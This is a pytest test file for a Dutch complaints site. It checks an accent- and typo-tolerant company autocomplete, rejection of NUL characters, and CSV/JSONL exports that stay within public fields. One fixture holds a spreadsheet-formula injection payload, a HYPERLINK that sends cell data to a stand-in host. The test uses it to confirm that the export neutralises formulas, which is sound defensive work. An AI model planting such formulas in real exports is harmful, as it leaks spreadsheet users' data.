"""Open data export and the company autocomplete, against the real Elasticsearch."""

import csv
import io
import json

import pytest

from tests.search.conftest import TOKEN

pytestmark = pytest.mark.django_db


@pytest.fixture
def companies_indexed(index, company, company_index, es):
    from companies.factories import CompanyPageFactory
    from search.companies import rebuild

    CompanyPageFactory(
        parent=company_index, title="Zonnestroom Holland", legal_name="Zonnestroom Holland N.V."
    )
    CompanyPageFactory(parent=company_index, title="Café Één", legal_name="Café Eén B.V.")
    rebuild()
    return company


@pytest.mark.parametrize(
    "typed, expected",
    [
        ("Zonne", "Zonnestroom Holland"),
        ("zonnestrom", "Zonnestroom Holland"),
        ("cafe", "Café Één"),
        ("Holland", "Zonnestroom Holland"),
    ],
)
def test_autocomplete_is_accent_and_typo_tolerant(client, companies_indexed, typed, expected):
    data = client.get("/api/v2/companies/autocomplete/", {"q": typed}).json()

    assert expected in [item["name"] for item in data]
    item = next(i for i in data if i["name"] == expected)
    assert set(item) == {"slug", "name", "url"} and item["url"].startswith("/bedrijven/")


def test_autocomplete_with_nothing_typed_is_empty(client, companies_indexed):
    assert client.get("/api/v2/companies/autocomplete/", {"q": ""}).json() == []


@pytest.mark.parametrize("built", [True, False], ids=["index", "database-fallback"])
def test_autocomplete_refuses_a_nul_character(client, company, index, built):
    # Without a company index the prefix went to PostgreSQL, which cannot hold a NUL in a
    # string literal: a 500 (found by the property-based run of the OpenAPI description).
    from search.companies import rebuild

    if built:
        rebuild()

    response = client.get("/api/v2/companies/autocomplete/", {"q": "Polder\x00post"})

    assert response.status_code == 400
    assert response.json() == {"error": "Ongeldige zoekvraag."}


def test_export_streams_public_fields_with_the_search_filters(client, published, company_index):
    from companies.factories import CompanyPageFactory

    other = CompanyPageFactory(parent=company_index, title="Ander")
    kept = published(title="Pakket kwijt")
    published(company=other, title="Andere klacht")
    published(status="in_moderation", title="Niet openbaar")

    response = client.get("/api/v2/complaints/export.csv", {"company": kept.company.slug})
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    lines = (
        b"".join(client.get("/api/v2/complaints/export.jsonl").streaming_content)
        .decode()
        .splitlines()
    )

    assert response["Content-Type"].startswith("text/csv")
    assert [r["title"] for r in rows] == ["Pakket kwijt"]
    assert rows[0]["company_slug"] == kept.company.slug
    assert sorted(json.loads(line)["title"] for line in lines) == ["Andere klacht", "Pakket kwijt"]
    assert TOKEN not in body and all(TOKEN not in line for line in lines)
    assert "private" not in body and "@" not in body


def test_export_rejects_bad_filters(client, index):
    assert client.get("/api/v2/complaints/export.csv", {"date_from": "morgen"}).status_code == 400
    assert client.get("/api/v2/complaints/export.xml").status_code == 404


FORMULAS = {
    "title": '=HYPERLINK("https://example.invalid/?d="&A1,"Klik")',
    "description": "+31 20 123 4567 belde ik drie keer, en niemand nam op na het melden.",
    "desired_outcome": "-2+3 euro terug, of @SUM(A1:A9) in natura",
}


def test_the_csv_export_neutralises_spreadsheet_formulas(client, published, company_index):
    from companies.factories import CompanyPageFactory

    company = CompanyPageFactory(parent=company_index, title="@Evil B.V.")
    published(company=company, **FORMULAS)
    published(title="\tTab voorop", description="\rRegel terug en verder gewoon tekst hier.")

    body = b"".join(client.get("/api/v2/complaints/export.csv").streaming_content).decode()
    rows = {row["title"]: row for row in csv.DictReader(io.StringIO(body, newline=""))}
    lines = b"".join(client.get("/api/v2/complaints/export.jsonl").streaming_content).decode()
    items = [json.loads(line) for line in lines.splitlines()]

    formula = rows["'" + FORMULAS["title"]]
    assert formula["description"] == "'" + FORMULAS["description"]
    assert formula["desired_outcome"] == "'" + FORMULAS["desired_outcome"]
    assert formula["company_name"] == "'@Evil B.V."
    tab = rows["'\tTab voorop"]
    assert tab["description"].startswith("'\r")
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    # JSON Lines carries the text as it is.
    assert {item["title"] for item in items} == {FORMULAS["title"], "\tTab voorop"}
